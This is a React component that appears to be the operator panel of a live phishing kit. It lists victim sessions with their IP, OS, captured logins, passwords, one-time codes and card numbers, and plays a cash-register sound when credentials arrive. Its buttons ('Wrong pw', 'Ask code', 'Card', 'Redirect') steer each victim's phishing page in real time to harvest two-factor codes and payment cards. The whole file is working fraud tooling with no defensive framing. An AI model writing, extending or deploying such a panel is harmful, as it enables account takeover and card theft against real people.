import React, { useEffect, useRef, useState } from "react";
import api from "../lib/api";
const STEPS = [["PASSWORD_WRONG", "Wrong pw"], ["ASK_CODE", "Ask code"], ["CODE_WRONG", "Wrong code"], ["ASK_NUMBER", "Show number"], ["ASK_CARD", "Card"], ["FINISH", "Redirect"]];
export default function Sessions({ socket }) {
  const [items, setItems] = useState([]);
  const beep = useRef(null);
  useEffect(() => {
    api.get("/sessions").then(r => setItems(r.data));
    socket.on("session:update", s => {
      setItems(old => [s, ...old.filter(o => o.id !== s.id)]);
      if (s.event === "credentials" || s.event === "code") beep.current.play();
    });
    return () => socket.off("session:update");
  }, [socket]);
  const order = (id, step) => {
    const value = step === "ASK_NUMBER" ? window.prompt("Number to display") : null;
    socket.emit("session:redirect", { id, step, value });
  };
  return React.createElement("div", { className: "grid" },
    React.createElement("audio", { ref: beep, src: "/cash.mp3" }),
    items.map(s => React.createElement("section", { key: s.id, className: s.online ? "on" : "off" },
      React.createElement("h4", null, s.template, " · ", s.ip, " · ", s.os),
      React.createElement("pre", null, [s.login, s.password, s.code, s.card && s.card.number].filter(Boolean).join("\n")),
      s.waiting && STEPS.map(([step, label]) => React.createElement("button", { key: step, onClick: () => order(s.id, step) }, label)),
      React.createElement("button", { onClick: () => api.delete("/sessions/" + s.id) }, "Delete"))));
}
